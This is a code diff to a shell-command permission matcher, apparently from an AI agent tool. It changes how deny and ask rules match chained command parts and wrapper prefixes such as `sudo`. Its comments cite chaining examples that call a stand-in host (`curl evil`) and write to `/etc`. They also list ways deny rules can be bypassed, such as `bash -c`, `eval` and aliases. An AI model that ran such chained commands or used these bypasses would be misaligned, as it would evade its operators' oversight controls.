@@ -30,10 +30,11 @@
 //    `npm test; curl evil`, `npm test > /etc/x` or `npm test $(curl evil)`; `shell(make && make
 //    install)` allows exactly that chain. The cut ignores quoting, so `echo "a;b"` is two parts:
 //    an allow rule is then stricter than it could be, never looser.
-//  - deny and ask rules match the whole command, each part, and each run of consecutive parts, with
-//    `*` crossing operators: `shell(git push*)` denies `cd x && git push origin`. A part's leading
-//    `VAR=value` assignments, `(`/`{` and wrappers (`env`, `command`, `exec`, `nohup`, `time`,
-//    `nice`, `builtin`) are also tried without them. Deny rules on shell are a safety net, not a
+//  - deny and ask rules match the whole command, each part, each run of up to 8 consecutive parts
+//    and each run to the end of the command, `*` crossing operators: `shell(git push*)` denies
+//    `cd x && git push origin`. A part's leading `VAR=value` assignments, `(`/`{` and wrappers
+//    (`env`, `command`, `exec`, `nohup`, `time`, `nice`, `builtin`, `sudo`) are also tried without
+//    them. Deny rules on shell are a safety net, not a
 //    sandbox: `bash -c "git push"`, `eval`, an alias or a script that pushes are not recognised.
 //    The sandbox (its own uid, the egress policy) is the boundary.
 //
@@ -236,13 +237,12 @@ function catchesCommand(pattern: string, command: string): boolean {
   const re = commandGlob(normalizeCommand(pattern));
   if (re.test(command)) return true;
   const { parts, ops } = tokenize(command);
-  const n = Math.min(parts.length, 200);
+  const n = parts.length;
+  const join = (i: number, j: number) => parts.slice(i, j + 1).reduce((text, part, k) => (k ? `${text} ${ops[i + k - 1]} ${part}` : part), "").replace(/[ \t]+/g, " ").trim();
   for (let i = 0; i < n; i++) {
-    let text = "";
-    for (let j = i; j < n; j++) {
-      text = j === i ? parts[i] : `${text} ${ops[j - 1]} ${parts[j]}`.replace(/[ \t]+/g, " ");
-      if (re.test(text.trim())) return true;
-    }
+    // Runs of up to 8 parts, and every run to the end (the whole command was tried above).
+    for (let j = i; j < Math.min(n, i + 8); j++) if (re.test(join(i, j))) return true;
+    if (i > 0 && n - i > 8 && re.test(join(i, n - 1))) return true;
     for (const bare of unwrapped(parts[i])) if (re.test(bare)) return true;
   }
   return false;
